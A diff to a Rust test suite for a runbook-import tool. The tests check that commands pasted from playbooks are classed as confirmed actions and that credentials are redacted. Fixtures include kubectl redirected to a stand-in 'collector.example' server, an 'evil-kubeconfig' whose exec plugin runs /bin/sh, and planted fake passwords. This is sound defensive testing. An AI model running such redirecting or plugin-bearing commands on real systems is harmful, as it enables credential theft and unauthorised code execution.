@@ -150,10 +150,11 @@ fn the_playbook_seed_keeps_what_oncall_cannot_read_as_reviewed_shell() {
     let sb = Sandbox::new();
     let ran = seed(&sb, "incident-response-playbook.md", "-");
     let yaml = &ran.stdout;
-    // A program oncall does not know, with a verb that reads: a shell check, its line beside it.
+    // A program oncall does not know, even with a verb that reads: a shell action, asked first,
+    // its line beside it and why (issue 25: `logger status` wrote to syslog).
     assert!(
         yaml.contains(
-            "# line 263: vid-bench list-models --status=failed\n      # review: no native check"
+            "# line 263: vid-bench list-models --status=failed\n      # review: `vid-bench` is not a program oncall knows to only read (move it under `checks:` if it does)"
         ),
         "{yaml}"
     );
@@ -421,7 +422,11 @@ fn a_command_that_could_change_something_becomes_an_action_never_a_check() {
         "action:shell",
         "systemctl restart, whatever its comment says"
     );
-    assert_eq!(kind_of("vid_bench_status"), "check:shell");
+    assert_eq!(
+        kind_of("vid_bench_status"),
+        "action:shell",
+        "a tool oncall does not know may do anything, whatever its verb says"
+    );
     assert_eq!(
         kind_of("curl_s_http_api_8080_health"),
         "action:shell",
@@ -478,4 +483,231 @@ fn imported_text_is_data() {
     );
     let drill = sb.run(&["drill", "evil", "--yes"]);
     assert!(!marker.exists(), "a drill ran something: {}", drill.stdout);
+}
+
+/// Issue 25, items 5 and 6: every form the issue lists, on one page.
+const EVERY_FORM: &str = r#"# Payments DB down (postgres://admin:TitleHunter22@db.internal/payments)
+
+## Severity
+P1
+
+## Checks that are not reads
+```bash
+vid-bench status --reboot-now
+logger status
+curl -s -H 'X-HTTP-Method-Override: DELETE' http://api:8080/v1/items/42
+psql -c "SELECT * FROM jobs WHERE state = 'queued' FOR UPDATE"
+kubectl get pods -n payments --kubeconfig=/tmp/evil-kubeconfig
+kubectl get pods -n payments --server=https://collector.example:6443
+kubectl get pods -n payments --token eyJhbGciOiJSUzI1NiJ9.KubectlHunter22
+```
+
+## Credentials
+```bash
+redis-cli -a RedisHunter22 llen queue
+mysql -pMysqlHunter22 -e "SELECT 1"
+curl -s -u admin:CurlHunter22 http://api:8080/health
+curl -s "https://metrics.example.com/api/v1/series?match=up&api_key=ApiKeyHunter22"
+curl -X POST -d '{"text":"investigating"}' https://hooks.slack.com/services/T0001/B0002/SlackHunter22
+psql postgres://admin:PgHunter22@db.internal:5432/payments -c "SELECT count(*) FROM pg_stat_activity"
+curl -f -H "Authorization: Bearer HeaderHunter22" http://api:8080/v1/status
+```
+"#;
+
+#[test]
+fn every_form_of_issue_25_becomes_an_asked_action_or_a_secret_param_and_nothing_secret_is_written()
+{
+    let sb = Sandbox::new();
+    sb.write("every.md", EVERY_FORM);
+    let ran = sb.run(&["import", "every.md", "-o", "json"]);
+    assert_eq!(ran.code, 0, "{}{}", ran.stdout, ran.stderr);
+    let json = ran.json();
+    assert_eq!(json["valid"], true, "{:#}", json["problems"]);
+    let report = &json["report"];
+    let lines = |what: &str| -> Vec<(u64, String)> {
+        report[what]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| {
+                let why = f["why"].as_str().unwrap_or_default().to_string();
+                (f["line"].as_u64().unwrap(), why)
+            })
+            .collect()
+    };
+    // Item 5: each is asked first, with why; none of them is a check.
+    let asked = lines("shell_actions");
+    for (line, why) in [
+        (8, "`vid-bench` is not a program oncall knows to only read"),
+        (9, "`logger` is not a program oncall knows to only read"),
+        (
+            10,
+            "the header X-HTTP-Method-Override asks the server for another method",
+        ),
+        (11, "`FOR UPDATE` takes locks"),
+        (
+            12,
+            "`--kubeconfig` makes kubectl reach another server or use other credentials",
+        ),
+        (13, "`--server` makes kubectl reach another server"),
+        (
+            14,
+            "`--token` makes kubectl reach another server or use other credentials",
+        ),
+        (20, "`mysql` is not a program oncall knows to only read"),
+    ] {
+        assert!(
+            asked.iter().any(|(l, w)| *l == line && w.contains(why)),
+            "line {line} is not asked because {why}: {asked:?}"
+        );
+    }
+    assert_eq!(asked.len(), 8, "{asked:?}");
+    let checks: Vec<u64> = lines("shell_checks").iter().map(|(l, _)| *l).collect();
+    assert_eq!(checks, [19, 21], "redis-cli -a and curl -u only read");
+    assert_eq!(report["native_checks"], 3, "api_key, postgres URL, bearer");
+    assert_eq!(report["native_actions"], 1, "the Slack webhook");
+    // Item 6: each credential a secret param with the line it came from.
+    let secrets: Vec<(u64, &str)> = report["secret_params"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| (s["line"].as_u64().unwrap(), s["param"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        secrets,
+        [
+            (14, "kubectl_token"),
+            (19, "redis_password"),
+            (20, "mysql_password"),
+            (21, "curl_password"),
+            (22, "api_key"),
+            (23, "slack_webhook"),
+            (24, "postgres_password"),
+            (25, "authorization"),
+        ]
+    );
+    let yaml = json["runbook"].as_str().unwrap();
+    for (_, name) in &secrets {
+        assert!(
+            yaml.contains(&format!("  {name}:\n    secret: true\n    help: ")),
+            "{name} is not a secret param with no default:\n{yaml}"
+        );
+    }
+    for line in [
+        "shell: { command: \"kubectl get pods -n payments --token {{ params.kubectl_token }}\" }",
+        "shell: { command: \"redis-cli -a {{ params.redis_password }} llen queue\" }",
+        "shell: { command: \"mysql -p{{ params.mysql_password }} -e \\\"SELECT 1\\\"\" }",
+        "shell: { command: \"curl -s -u admin:{{ params.curl_password }} http://api:8080/health\" }",
+        "http: { url: \"{{ endpoints.metrics }}/api/v1/series?match=up&api_key={{ params.api_key }}\" }",
+        "url: \"{{ endpoints.hooks }}/services/{{ params.slack_webhook | urlpath }}\"",
+        "pg_connections: { url: \"postgres://admin:{{ params.postgres_password }}@db.internal:5432/payments\" }",
+        "headers: { Authorization: \"Bearer {{ params.authorization }}\" }",
+        "title: \"Payments DB down (postgres://admin:***@db.internal/payments)\"",
+    ] {
+        assert!(yaml.contains(line), "{line}\n{yaml}");
+    }
+    // Nothing secret anywhere: the file, the JSON report, the text report (ids are lower case).
+    sb.write("runbooks/every.yaml", yaml);
+    let text = sb.run(&["import", "every.md", "-o", "runbooks/every.yaml"]);
+    assert_eq!(text.code, 0, "{}", text.stderr);
+    let written = std::fs::read_to_string(sb.work().join("runbooks/every.yaml")).unwrap();
+    for secret in [
+        "TitleHunter22",
+        "KubectlHunter22",
+        "RedisHunter22",
+        "MysqlHunter22",
+        "CurlHunter22",
+        "ApiKeyHunter22",
+        "T0001/B0002",
+        "SlackHunter22",
+        "PgHunter22",
+        "HeaderHunter22",
+    ] {
+        for (what, said) in [
+            ("the file", &written),
+            ("the JSON report", &ran.stdout),
+            ("the text report", &text.stderr),
+        ] {
+            assert!(
+                !said.to_lowercase().contains(&secret.to_lowercase()),
+                "{secret} in {what}:\n{said}"
+            );
+        }
+    }
+    assert!(
+        text.stderr.contains("    line 12: kubectl get pods -n payments --kubeconfig=/tmp/evil-kubeconfig\n      asked because `--kubeconfig` makes kubectl"),
+        "{}",
+        text.stderr
+    );
+    assert!(
+        text.stderr
+            .contains("    line 19: redis_password (redis-cli -a)\n"),
+        "{}",
+        text.stderr
+    );
+    let valid = sb.run(&["validate", "runbooks/every.yaml"]);
+    assert_eq!(valid.code, 0, "{}{}", valid.stdout, valid.stderr);
+    // `oncall run` asks for each secret by name, and runs nothing without them.
+    let run = sb.run(&["run", "every", "--dry-run"]);
+    assert_ne!(run.code, 0);
+    for (_, name) in &secrets {
+        assert!(
+            run.stderr.contains(&format!("-p {name}=VALUE")),
+            "{name}: {}",
+            run.stderr
+        );
+    }
+    assert!(
+        sb.incidents().is_empty(),
+        "a run started without its secrets"
+    );
+}
+
+#[test]
+fn a_dry_run_of_an_imported_page_never_runs_its_kubeconfig_plugin_nor_reaches_its_server() {
+    let other = RecordingServer::start();
+    let sb = Sandbox::new();
+    let marker = sb.work().join("plugin-ran");
+    // A kubeconfig whose credential plugin leaves a file, for a cluster that records requests.
+    let kubeconfig = sb.write(
+        "evil-kubeconfig",
+        &format!(
+            "apiVersion: v1\nkind: Config\ncurrent-context: evil\nclusters:\n- name: evil\n  cluster: {{ server: \"{url}\" }}\ncontexts:\n- name: evil\n  context: {{ cluster: evil, user: evil }}\nusers:\n- name: evil\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      interactiveMode: Never\n      command: /bin/sh\n      args: [\"-c\", \"touch {m}; echo '{{\\\"apiVersion\\\":\\\"client.authentication.k8s.io/v1beta1\\\",\\\"kind\\\":\\\"ExecCredential\\\",\\\"status\\\":{{\\\"token\\\":\\\"plugin-token-123\\\"}}}}'\"]\n",
+            url = other.url,
+            m = marker.display()
+        ),
+    );
+    let md = format!(
+        "# Pods\n\n## Look\n```bash\nkubectl get pods --kubeconfig={k}\nkubectl get pods -n payments --server={url} --token tok-LEAKED-123456\nkubectl --kubeconfig {k} get pods\n```\n",
+        k = kubeconfig.display(),
+        url = other.url
+    );
+    sb.write("pods.md", &md);
+    let ran = sb.run(&["import", "pods.md", "-o", "runbooks/pods.yaml"]);
+    assert_eq!(ran.code, 0, "{}", ran.stderr);
+    // The run is given the token the runbook asks for (an import that left it in the command
+    // asks for nothing).
+    let yaml = std::fs::read_to_string(sb.work().join("runbooks/pods.yaml")).unwrap();
+    let mut args = vec!["run", "pods", "--dry-run"];
+    if yaml.contains("kubectl_token:") {
+        args.extend(["-p", "kubectl_token=tok-LEAKED-123456"]);
+    }
+    let dry = sb.run(&args);
+    assert!(!marker.exists(), "the dry run ran the kubeconfig's plugin");
+    assert!(
+        other.requests().is_empty(),
+        "the dry run reached the other server: {:?}",
+        other.requests()
+    );
+    assert!(
+        dry.stdout.contains("kubectl get pods --kubeconfig="),
+        "the plan shows what would run: {}{}",
+        dry.stdout,
+        dry.stderr
+    );
+    assert!(!yaml.contains("checks:"), "a check was made:\n{yaml}");
+    let timeline = std::fs::read_to_string(&sb.incidents()[0]).unwrap();
+    for said in [&dry.stdout, &dry.stderr, &timeline] {
+        assert!(!said.contains("tok-LEAKED-123456"), "{said}");
+    }
 }
